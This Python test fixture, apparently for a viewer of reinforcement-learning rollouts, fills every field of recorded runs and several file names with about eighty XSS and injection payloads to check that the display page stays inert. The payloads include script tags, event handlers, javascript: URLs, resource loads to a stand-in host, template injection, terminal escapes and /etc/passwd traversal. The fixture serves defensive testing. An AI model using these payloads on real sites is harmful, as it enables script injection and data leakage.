"""A run in which a model, its tools and its data try to act in the page that shows them."""

from dataclasses import replace
from itertools import islice

from builders import run_info, token_details, trajectory
from rlvr.record import (
    Component,
    ContentPart,
    Message,
    RolloutError,
    ScoreStatus,
    ToolCall,
    ToolResult,
)

FAR = "http://elsewhere.invalid"
"""Where payloads want to go. A request to it fails a test."""

_ACT = "window.acted=1"

PAYLOADS = (
    f"<script>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f"</pre></div></main><script>{_ACT}</script>",
    f"</style><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f"--><script>{_ACT}</script><!--",
    f"]]><script>{_ACT}</script>",
    f"<ScRiPt\n>{_ACT}</sCrIpT\n>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<script src={FAR}/a.js></script>",
    f"<script type=module>import '{FAR}/b.js'</script>",
    f"<img src=x onerror={_ACT}>",
    f"<img src={FAR}/c.png>",
    f"<img srcset='{FAR}/d.png 1x'>",
    f"<svg onload={_ACT}>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><use href={FAR}/e.svg#x></use></svg>",
    f"<svg><image href={FAR}/f.png></image></svg>",
    f"<svg><a xlink:href='javascript:{_ACT}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"<iframe srcdoc='<script>parent.acted=1</script>'></iframe>",  # noqa: F541 - one of a table
    f"<iframe src={FAR}/g></iframe>",
    f"<iframe src='javascript:parent.acted=1'></iframe>",  # noqa: F541 - one of a table
    f"<object data={FAR}/h></object>",
    f"<embed src={FAR}/i>",
    f"<video autoplay><source src={FAR}/j onerror={_ACT}></video>",
    f"<audio src={FAR}/k autoplay></audio>",
    f"<link rel=stylesheet href={FAR}/l.css>",
    f"<link rel=prefetch href={FAR}/m>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<style>@import url({FAR}/n.css);body{{background:url({FAR}/o.png)}}</style>",
    f"<p style='background:url({FAR}/p.png)'>",
    f"<base href={FAR}/>",
    f"<meta http-equiv=refresh content='0;url={FAR}/q'>",
    f"<form action={FAR}/r><input name=a autofocus onfocus={_ACT}></form>",
    f"<button formaction='javascript:{_ACT}'>x</button>",
    f"<details open ontoggle={_ACT}>",
    f"<body onload={_ACT} onpageshow={_ACT}>",
    f"<a href='javascript:{_ACT}'>click</a>",
    f"<a href='{FAR}/s' data-key='j' data-item>click</a>",
    f"<a href='data:text/html,<script>{_ACT}</script>'>click</a>",
    f"[click](javascript:{_ACT})",
    f"![image]({FAR}/t.png)",
    f"[![x]({FAR}/u.png)]({FAR})",
    f"<{FAR}/v>",
    f'" onmouseover="{_ACT}" x="',
    f"' onfocus='{_ACT}' autofocus='",
    f'" autofocus onfocus={_ACT} "',
    f"javascript:{_ACT}",
    f"//{FAR.removeprefix('http://')}/w",
    f"/\\{FAR.removeprefix('http://')}/x",
    f"\\x3cscript\\x3e{_ACT}\\x3c/script\\x3e",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"&#60;script&#62;{_ACT}&#60;/script&#62;",
    "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}{% for x in () %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "__proto__",
    "constructor",
    "\x1b]8;;http://elsewhere.invalid\x07click\x1b]8;;\x07\x1b[2J\x07",
    "\u202egpj.exe\u2066 \u200b\ufeff\u2028</script>",
    "\0<script>\0</script>",
    "\ud800<b>\udfff",
    "../../../../etc/passwd",
    "..%2f..%2f%00?#&=+;/ /",
    "a/b?c#d",
    f"+ADw-script+AD4-{_ACT}+ADw-/script+AD4-",
    f"<xmp><script>{_ACT}</script>",
    f"<plaintext>{_ACT}",
    f"<template><script>{_ACT}</script></template>",
    f"<portal src={FAR}/y>",
    f"<input type=image src={FAR}/z>",
    f"<isindex action=javascript:{_ACT}>",
    f"<table background={FAR}/1>",
    f"<div id=main data-region data-live data-etag=x data-act=theme data-for=steps>",  # noqa: F541
    f"<dialog open id=keys><form method=dialog>",  # noqa: F541 - one of a table
)
"""Each would act in some page that puts it where markup, an attribute, a URL or a script is."""

FILES = (
    f"<img src=x onerror={_ACT}>.parquet",
    f'" onmouseover="{_ACT}" x=".parquet',
    "train-s000000-b000000-a00-r000<script>.parquet",
)
"""Names of files that somebody left in the run's folder."""

ALL = "\n".join(PAYLOADS)
_SIZE = 4


def hostile_trajectories():
    """A rollout for each payload, which is every name in it; their texts hold all of them."""
    for at, payload in enumerate(PAYLOADS):
        group = PAYLOADS[at - at % _SIZE]
        yield _rollout(payload, group=group, sample=at % _SIZE, at=at)


def _rollout(payload, *, group, sample, at):
    call = ToolCall(id=payload, name=payload, arguments=ALL if at == 0 else payload)
    return trajectory(
        step=at // (2 * _SIZE),
        batch=at // (2 * _SIZE),
        group_id=group,
        sample=sample,
        example_id=payload,
        task=payload,
        question=ALL if at == 0 else payload,
        answer=payload,
        agent=payload,
        info={payload: payload},
        prompt=(
            Message(role="system", content=payload),
            Message(role=payload, content=payload, name=payload, rest=payload),
        ),
        completion=(
            Message(
                role="assistant",
                content=ALL if at == 0 else payload,
                reasoning=payload,
                tool_calls=(call,),
            ),
            Message(role="tool", content=payload, tool_call_id=payload, name=payload),
            Message(
                role="assistant",
                parts=(
                    ContentPart(type=payload, text=payload, media_type=payload, rest=payload),
                    ContentPart(type="image_url", blob="0" * 64, media_type="image/svg+xml"),
                ),
            ),
        ),
        tool_results=(
            ToolResult(
                turn=0,
                call_id=payload,
                name=payload,
                arguments=payload,
                result=ALL if at == 0 else payload,
                duration_s=0.1,
            ),
            ToolResult(
                turn=0,
                call_id=payload,
                name=payload,
                arguments=payload,
                error=payload,
                traceback=payload,
                malformed=True,
            ),
        ),
        stop_reason=payload,
        errors=(RolloutError(where=payload, type=payload, text=payload, traceback=payload),),
        components=(
            Component(name=payload, value=1.0, weight=1.0),
            Component(
                name=f"{payload} fails",
                value=None,
                weight=0.5,
                status=ScoreStatus.ERROR,
                error=payload,
            ),
        ),
        reward=float(sample),
        advantage=float(sample) - 1.5,
        tokens=_tokens() if at == 0 else None,
    )


def _tokens():
    """Every payload as a token."""
    details = token_details(len(PAYLOADS))
    ids = tuple(range(len(PAYLOADS)))
    return replace(details, sequences=(replace(details.sequences[0], ids=ids),))


def write_hostile_run(output_dir):
    """The run, recorded by the real recorder, with a name, a model and a vocabulary that are
    hostile too."""
    from rlvr.recorder import Recorder

    info = run_info(
        name=PAYLOADS[0],
        model=PAYLOADS[12],
        dataset=PAYLOADS[41],
        command=ALL,
        system_prompt=ALL,
        chat_template=ALL,
        outcome=PAYLOADS[0],
        sampling={payload: payload for payload in PAYLOADS[:20]},
        config={payload: payload for payload in PAYLOADS[20:40]},
        components={},
        packages={PAYLOADS[0]: PAYLOADS[1]},
        repairs={PAYLOADS[0]: False},
        imported_from=PAYLOADS[42],
        inferred=(ALL,),
        num_generations=_SIZE,
    )
    with Recorder.open(output_dir, info=info, run=info.run) as recorder:
        recorder.keep_vocabulary(PAYLOADS)
        rollouts = hostile_trajectories()
        while batch := list(islice(rollouts, 2 * _SIZE)):
            recorder.record_batch([replace(rollout, run=info.run) for rollout in batch])
    folder = output_dir / "rlvr" / info.run
    for name in FILES:
        (folder / "trajectories" / "L0" / name).write_bytes(b"no file of ours")
    return folder
